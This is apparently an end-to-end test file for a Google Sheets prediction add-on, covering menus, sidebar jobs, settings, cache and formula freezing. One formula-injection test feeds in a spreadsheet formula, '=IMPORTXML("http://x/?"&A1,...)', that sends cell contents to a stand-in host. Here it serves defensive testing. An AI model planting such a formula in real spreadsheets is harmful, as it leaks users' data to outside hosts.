import { join } from 'node:path';
import { Worker } from 'node:worker_threads';
import type { JobStatus, SidebarState, StartJobResult } from '../../src/features/sidebar/rpc-types';
import { createSandbox, type Sandbox } from '../gas-sandbox/sandbox';
import { KEYS, sampleSheet, startServer, validRows } from './support/e2e';
import { runToEnd, select, sheetSandbox, started } from './support/jobs';
import type { ServerProcess } from './support/reference-server';

/** Menu and sidebar actions through the sandbox's SpreadsheetApp, against the real reference API. */
const HEADER = sampleSheet()[0] as string[];

const columnOf = (sandbox: Sandbox, column: number) =>
  sandbox.spreadsheet
    .getSheetByName('Customers')
    ?.dump()
    .values.map((row) => row[column - 1]) ?? [];

describe('menu', () => {
  it.each(['NONE', 'LIMITED', 'FULL'] as const)('onOpen builds the add-on menu in AuthMode.%s', (mode) => {
    const sandbox = createSandbox({ spreadsheet: { sheets: [{ name: 'Customers' }] } });
    sandbox.callWithAuthMode('onOpen', mode);
    const captions = sandbox.ui.menus
      .at(-1)
      ?.items.map((item) => (typeof item === 'object' && 'caption' in item ? item.caption : item));
    expect(captions).toEqual(
      expect.arrayContaining([
        'Predict selection…',
        'Rerun failed rows',
        'Freeze formulas in selection',
        'Settings…',
        'Test connection',
        'Clear cache',
        'Help',
      ]),
    );
    return sandbox.close();
  });

  it.each([
    ['menuPredictSelection', 'run'],
    ['menuRerunFailed', 'rerun'],
    ['menuSettings', 'settings'],
  ])('%s opens the sidebar on its %s panel', (functionName, panel) => {
    const sandbox = createSandbox({ spreadsheet: { sheets: [{ name: 'Customers' }] } });
    sandbox.callWithAuthMode(functionName, 'FULL');
    const shown = sandbox.ui.sidebars.at(-1);
    expect(shown?.title).toBe('SheetBridge');
    expect(shown?.html).toContain(`<main id="app" aria-busy="true" data-panel="${panel}">`);
    return sandbox.close();
  });

  it('speaks Japanese to a Japanese user', () => {
    const sandbox = createSandbox({ locale: 'ja', spreadsheet: { sheets: [{ name: 'Customers' }] } });
    sandbox.callWithAuthMode('onOpen', 'FULL');
    const captions = sandbox.ui.menus
      .at(-1)
      ?.items.map((item) => (typeof item === 'object' && 'caption' in item ? item.caption : item));
    expect(captions).toContain('選択範囲を予測…');
    return sandbox.close();
  });
});

describe('predict selection, settings and connection test', () => {
  let server: ServerProcess;

  beforeAll(async () => {
    server = await startServer();
  });
  afterAll(async () => {
    await server.close();
  });

  it('a 5,000-row selection completes over several slices with correct values, inputs untouched', async () => {
    const rows = [HEADER, ...validRows(5_000, 500)];
    const sandbox = sheetSandbox(server.url, rows, { SHEETBRIDGE_CACHE_TTL_S: '0' });
    const inputBefore = sandbox.spreadsheet
      .getSheetByName('Customers')
      ?.dump()
      .values.map((r) => r.slice(0, 8));
    const job = started(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true }));
    expect(job).toMatchObject({ rowsTotal: 5_000, outputA1: 'I1:I5001', state: 'running' });
    const { final, sliceMs, statuses } = runToEnd(sandbox, job);
    expect(final).toMatchObject({ state: 'done', rowsDone: 5_000, rowsFailed: 0, slices: 3 });
    expect(statuses.map((s) => s.rowsDone)).toEqual([2_000, 4_000, 5_000]);
    expect(statuses[0]?.etaMs).toEqual(expect.any(Number));
    const output = columnOf(sandbox, 9);
    expect(output[0]).toBe('churn_probability');
    expect(output.slice(1).every((v) => typeof v === 'number' && v >= 0 && v <= 1)).toBe(true);
    expect(
      sandbox.spreadsheet
        .getSheetByName('Customers')
        ?.dump()
        .values.map((r) => r.slice(0, 8)),
    ).toEqual(inputBefore);
    expect((await server.stats()).rowsPredicted).toBeGreaterThanOrEqual(5_000);
    console.info(
      `5,000-row run: ${sliceMs.length} slices of up to 2,000 rows, slice times ${sliceMs.join(', ')} ms`,
    );
    await sandbox.close();
  });

  it('asks before overwriting a non-empty cell it did not write, and writes nothing until the user agrees', async () => {
    const rows = [HEADER, ...validRows(10, 501)];
    const sandbox = sheetSandbox(server.url, rows);
    sandbox.spreadsheet.getSheetByName('Customers')?.getRange('I4').setValue('keep me');
    const ask = sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true });
    expect(ask).toMatchObject({ kind: 'confirm-overwrite', cells: 1, outputA1: 'I1:I11' });
    expect(columnOf(sandbox, 9)[3]).toBe('keep me');
    expect(sandbox.call<SidebarState>('sidebarGetState').job).toBeNull();
    const job = started(
      sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true, overwrite: true }),
    );
    expect(runToEnd(sandbox, job).final.state).toBe('done');
    expect(columnOf(sandbox, 9)[3]).toEqual(expect.any(Number));
    // Its own earlier output is no reason to ask again.
    expect(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true }).kind).toBe('started');
    await sandbox.close();
  });

  it('refuses a target column inside the selection: input cells are never written', async () => {
    const sandbox = sheetSandbox(server.url, [HEADER, ...validRows(3, 502)]);
    const result = sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true, targetColumn: 'C' });
    expect(result).toMatchObject({
      kind: 'error',
      message: expect.stringContaining('never overwrite input cells'),
    });
    await sandbox.close();
  });

  it('refuses a target column whose results would be wide enough to reach the inputs', async () => {
    const rows = [HEADER, ...validRows(3, 508)].map((row) => ['', ...row]);
    const sandbox = sheetSandbox(server.url, rows);
    select(sandbox, `B1:I${rows.length}`);
    const result = sandbox.call<StartJobResult>('sidebarStartJob', {
      hasHeader: true,
      targetColumn: 'A',
      model: 'churn-proba',
    });
    expect(result).toMatchObject({ kind: 'error', message: expect.stringContaining('2 column(s)') });
    await sandbox.close();
  });

  it('a job resumed after the sidebar was closed does not redo finished rows', async () => {
    const rows = [HEADER, ...validRows(4_500, 503)];
    const sandbox = sheetSandbox(server.url, rows, { SHEETBRIDGE_CACHE_TTL_S: '0' });
    const job = started(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true }));
    sandbox.call<JobStatus>('sidebarRunSlice', job.id);
    // The sidebar is closed and opened again: it finds the job in Document Properties.
    sandbox.http.reset();
    const state = sandbox.call<SidebarState>('sidebarGetState');
    expect(state.job).toMatchObject({ id: job.id, state: 'running', rowsDone: 2_000 });
    const { final } = runToEnd(sandbox, state.job as JobStatus);
    expect(final).toMatchObject({ state: 'done', rowsDone: 4_500 });
    const sentRows = sandbox.http.requests
      .filter((r) => r.url.endsWith('/v1/predict'))
      .reduce((n, r) => n + (JSON.parse(r.payload) as { rows: unknown[] }).rows.length, 0);
    expect(sentRows).toBe(2_500);
    await sandbox.close();
  });

  it('cancel stops the run; rows after it are left as they were', async () => {
    const sandbox = sheetSandbox(server.url, [HEADER, ...validRows(4_500, 504)]);
    const job = started(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true }));
    sandbox.call<JobStatus>('sidebarRunSlice', job.id);
    const cancelled = sandbox.call<JobStatus>('sidebarCancelJob', job.id);
    expect(cancelled).toMatchObject({
      state: 'cancelled',
      rowsDone: 2_000,
      message: expect.stringContaining('2000 of 4500'),
    });
    expect(sandbox.call<JobStatus>('sidebarRunSlice', job.id).state).toBe('cancelled');
    const output = columnOf(sandbox, 9);
    // Row 1 is the header; the first slice wrote rows 2..2001, and nothing after them was touched.
    expect(output.slice(1, 2_001).filter((value) => typeof value !== 'number')).toEqual([]);
    expect(output.slice(2_001).filter((value) => value !== '')).toEqual([]);
    expect(output).toHaveLength(4_501);
    await sandbox.close();
  });

  it('failed rows get error cells and can be rerun alone', async () => {
    const sheet = sampleSheet().slice(0, 400);
    const sandbox = sheetSandbox(server.url, sheet);
    const job = started(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true }));
    expect(runToEnd(sandbox, job).final).toMatchObject({ state: 'done', rowsFailed: 2 });
    expect(String(columnOf(sandbox, 9)[42])).toMatch(/^#ERROR INVALID_ROW: /);
    const customers = sandbox.spreadsheet.getSheetByName('Customers');
    customers?.getRange('G43').setValue(12);
    customers?.getRange('D320').setValue('team');
    select(sandbox, `A1:H${sheet.length}`);
    sandbox.http.reset();
    const rerun = started(
      sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true, rerunFailed: true }),
    );
    expect(runToEnd(sandbox, rerun).final).toMatchObject({ state: 'done', rowsFailed: 0 });
    const predictCalls = sandbox.http.requests.filter((r) => r.url.endsWith('/v1/predict'));
    expect(predictCalls.map((r) => (JSON.parse(r.payload) as { rows: unknown[] }).rows.length)).toEqual([2]);
    expect(columnOf(sandbox, 9)[42]).toEqual(expect.any(Number));
    await sandbox.close();
  });

  it('a rerun writes only the failed rows: a formula or text in the other target rows stays as it is', async () => {
    const sheet = sampleSheet().slice(0, 50);
    const sandbox = sheetSandbox(server.url, sheet);
    const job = started(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true }));
    runToEnd(sandbox, job);
    const customers = sandbox.spreadsheet.getSheetByName('Customers');
    customers?.setCell(3, 9, { value: 0.5, formula: '=0.5' });
    customers?.getRange('I4').setValue("'00123");
    select(sandbox, `A1:H${sheet.length}`);
    const rerun = started(
      sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: true, rerunFailed: true }),
    );
    runToEnd(sandbox, rerun);
    const dump = customers?.dump();
    expect(dump?.formulas[2]?.[8]).toBe('=0.5');
    expect(dump?.values[3]?.[8]).toBe('00123');
    await sandbox.close();
  });

  it('settings: bad values are refused per field, good ones saved, the secret never read back', async () => {
    const sandbox = sheetSandbox(server.url, [HEADER]);
    const refused = sandbox.call<{ ok: boolean; errors: Record<string, string> }>('sidebarSaveSettings', {
      scope: 'script',
      values: { SHEETBRIDGE_BASE_URL: 'ftp://nope', SHEETBRIDGE_PARALLEL: '0' },
    });
    expect(Object.keys(refused.errors).sort()).toEqual(['SHEETBRIDGE_BASE_URL', 'SHEETBRIDGE_PARALLEL']);
    expect(sandbox.properties.script.getProperty('SHEETBRIDGE_PARALLEL')).toBeNull();
    const saved = sandbox.call<{ ok: boolean; state: SidebarState }>('sidebarSaveSettings', {
      scope: 'script',
      values: { SHEETBRIDGE_PARALLEL: '4' },
      secret: 'new-dummy-secret-value',
    });
    expect(saved.ok).toBe(true);
    expect(sandbox.properties.script.getProperty('SHEETBRIDGE_PARALLEL')).toBe('4');
    expect(JSON.stringify(saved.state)).not.toContain('new-dummy-secret-value');
    expect(saved.state.secretSet).toBe(true);
    const doc = sandbox.call<{ ok: boolean; errors?: Record<string, string> }>('sidebarSaveSettings', {
      scope: 'document',
      values: { SHEETBRIDGE_BASE_URL: 'http://198.51.100.7' },
    });
    expect(doc.errors?.SHEETBRIDGE_BASE_URL).toMatch(/all users/);
    await sandbox.close();
  });

  it('locked settings cannot be changed from the sidebar', async () => {
    const sandbox = sheetSandbox(server.url, [HEADER], { SHEETBRIDGE_LOCK_SETTINGS: 'true' });
    const state = sandbox.call<SidebarState>('sidebarGetState');
    expect(state.locked).toBe(true);
    expect(state.settings.find((s) => s.key === 'SHEETBRIDGE_BASE_URL')?.editable).toBe(false);
    const refused = sandbox.call<{ ok: boolean; errors: Record<string, string> }>('sidebarSaveSettings', {
      scope: 'script',
      values: { SHEETBRIDGE_BASE_URL: 'http://198.51.100.7' },
    });
    expect(refused.ok).toBe(false);
    expect(sandbox.properties.script.getProperty('SHEETBRIDGE_BASE_URL')).toBe(server.url);
    await sandbox.close();
  });

  it('test connection reports latency, model version and verified signatures; a wrong secret says so', async () => {
    const sandbox = sheetSandbox(server.url, [HEADER]);
    const report = sandbox.call<{
      ok: boolean;
      latencyMs: number;
      modelVersion: string;
      signature: string;
      models: unknown[];
    }>('sidebarTestConnection');
    expect(report).toMatchObject({ ok: true, modelVersion: '1.0.0', signature: 'verified' });
    expect(report.latencyMs).toEqual(expect.any(Number));
    expect(report.models.length).toBeGreaterThanOrEqual(2);
    sandbox.properties.script.setProperty('SHEETBRIDGE_SECRET', 'wrong-dummy-secret');
    const wrong = sandbox.call<{ ok: boolean; message: string }>('sidebarTestConnection');
    expect(wrong).toMatchObject({ ok: false, message: expect.stringContaining('SHEETBRIDGE_SECRET') });
    await sandbox.close();
  });

  it('clear cache makes the next calculation ask the API again', async () => {
    const sandbox = sheetSandbox(server.url, [HEADER]);
    const rows = validRows(3, 505);
    sandbox.callCustomFunction('PREDICT', rows);
    sandbox.call('menuClearCache');
    sandbox.http.reset();
    sandbox.callCustomFunction('PREDICT', rows);
    expect(sandbox.http.requests).toHaveLength(1);
    expect(sandbox.ui.toasts.at(-1)).toMatch(/cache cleared/);
    await sandbox.close();
  });
});

describe('formula injection and freezing', () => {
  it('an API answer =IMPORTXML("http://x/?"&A1,"//a") lands as text, not as a formula', async () => {
    const secret = KEYS['key-2026a'];
    const payload = '=IMPORTXML("http://x/?"&A1,"//a")';
    const worker = new Worker(join(__dirname, 'support/hostile-api-worker.mjs'), {
      workerData: { secret, value: payload },
    });
    const { port } = await new Promise<{ port: number }>((resolve) => worker.once('message', resolve));
    const sandbox = sheetSandbox(`http://127.0.0.1:${port}`, validRows(3, 506));
    try {
      const job = started(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: false }));
      expect(runToEnd(sandbox, job).final.state).toBe('done');
      const dump = sandbox.spreadsheet.getSheetByName('Customers')?.dump();
      expect(dump?.formulas.map((r) => r[8])).toEqual(['', '', '']);
      expect(dump?.values.map((r) => r[8])).toEqual([payload, payload, payload]);
    } finally {
      await sandbox.close();
      await worker.terminate();
    }
  });

  it('freeze replaces a PREDICT formula and its spilled results by their values, after confirming', async () => {
    const sandbox = createSandbox({
      spreadsheet: { sheets: [{ name: 'Customers', values: [HEADER, ...validRows(3, 507)] }] },
    });
    const sheet = sandbox.spreadsheet.getSheetByName('Customers');
    sheet?.setCell(2, 9, { value: 0.25, formula: '=PREDICT(A2:H4)' });
    sheet?.setCell(3, 9, { value: 0.5, formula: '' });
    sheet?.setCell(4, 9, { value: '#ERROR INVALID_ROW: age must be a number', formula: '' });
    sheet?.setCell(3, 10, { value: '00123', formula: '' });
    sheet?.setCell(2, 11, { value: 7, formula: '=SUM(A2:B2)' });
    select(sandbox, 'I2:K2');
    sandbox.ui.nextAlertResponses.push('YES', 'OK');
    sandbox.call('menuFreezeFormulas');
    const dump = sheet?.dump();
    expect(dump?.formulas[1]?.[8]).toBe('');
    expect(dump?.values.slice(1, 4).map((r) => r[8])).toEqual([
      0.25,
      0.5,
      '#ERROR INVALID_ROW: age must be a number',
    ]);
    expect(dump?.formulas[1]?.[10]).toBe('=SUM(A2:B2)');
    expect(sandbox.ui.alerts[0]?.prompt).toMatch(/Replace 1 PREDICT formulas in I2:K4/);
    await sandbox.close();
  });

  it('freeze covers an open-ended range to the last row, and leaves a formula showing an error value alone', async () => {
    const sandbox = createSandbox({
      spreadsheet: { sheets: [{ name: 'Customers', values: [HEADER, ...validRows(3, 509)] }] },
    });
    const sheet = sandbox.spreadsheet.getSheetByName('Customers');
    sheet?.setCell(2, 9, { value: 0.1, formula: '=PREDICT(A2:H)' });
    sheet?.setCell(3, 9, { value: 0.2, formula: '' });
    sheet?.setCell(4, 9, { value: 0.3, formula: '' });
    select(sandbox, 'I2');
    sandbox.ui.nextAlertResponses.push('YES', 'OK');
    sandbox.call('menuFreezeFormulas');
    expect(sandbox.ui.alerts[0]?.prompt).toMatch(/I2:I4/);
    expect(
      sheet
        ?.dump()
        .values.slice(1, 4)
        .map((r) => r[8]),
    ).toEqual([0.1, 0.2, 0.3]);
    sheet?.setCell(2, 10, { value: '#REF!', formula: '=PREDICT(A2:H2)' });
    select(sandbox, 'J2');
    sandbox.ui.nextAlertResponses.push('YES', 'OK');
    sandbox.call('menuFreezeFormulas');
    expect(sheet?.dump().formulas[1]?.[9]).toBe('=PREDICT(A2:H2)');
    expect(sandbox.ui.alerts.at(-1)?.prompt).toMatch(/still loading or show/);
    await sandbox.close();
  });

  it('freeze does nothing when the user says no', async () => {
    const sandbox = createSandbox({ spreadsheet: { sheets: [{ name: 'Customers', values: [HEADER] }] } });
    const sheet = sandbox.spreadsheet.getSheetByName('Customers');
    sheet?.setCell(2, 9, { value: 0.25, formula: '=PREDICT(A2:H2)' });
    select(sandbox, 'I2');
    sandbox.ui.nextAlertResponses.push('NO');
    sandbox.call('menuFreezeFormulas');
    expect(sheet?.dump().formulas[1]?.[8]).toBe('=PREDICT(A2:H2)');
    await sandbox.close();
  });
});
